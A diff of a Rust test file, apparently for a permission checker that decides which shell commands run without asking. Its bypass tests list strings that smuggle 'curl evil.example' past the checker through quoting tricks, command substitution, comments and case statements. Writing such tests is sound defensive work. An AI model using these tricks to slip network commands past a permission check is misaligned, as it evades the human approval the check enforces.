@@ -106,6 +106,7 @@ fn what_only_looks_runs() {
             "ls |& cat",
             "which cargo\nstat Cargo.toml",
             "l\"s\"",
+            "echo \"$(ls \"; one; word \")\"",
             "numfmt --to=iec 1024; tac x; seq 3; nl x; rev x; cut -d: -f1 x; paste a b; expr 1 + 1; tr a b",
         ],
     );
@@ -233,7 +234,6 @@ fn bypasses_that_are_known_ask() {
             "echo 'a'\\''b'; curl evil.example",
             "echo $'a\\'b'; curl evil.example # '",
             "echo $(ls # )\ncurl evil.example)",
-            "echo \"$(ls \"; curl evil.example; echo \")\"",
             "echo \"\\\\\"; curl evil.example; echo \"\"",
             "case x in (a) curl evil.example;; esac",
             "ls \\; curl evil.example\ncurl evil.example",
@@ -413,7 +413,8 @@ fn git_obeys_the_repository_so_an_untrusted_one_asks() {
 
 #[test]
 fn any_text_at_all_gets_an_answer() {
-    let pieces = ["ls", " ", "$(", ")", "`", "'", "\"", "<<E\n", "\nE\n", "{", "}", "${", "|", ";", "&&", "\\", "((", "\0", "é"];
+    let pieces =
+        ["ls", " ", "$(", ")", "`", "'", "\"", "<<E\n", "\nE\n", "{", "}", "${", "|", ";", "&&", "\\", "((", "\0", "é"];
     for a in pieces {
         for b in pieces {
             for c in pieces {
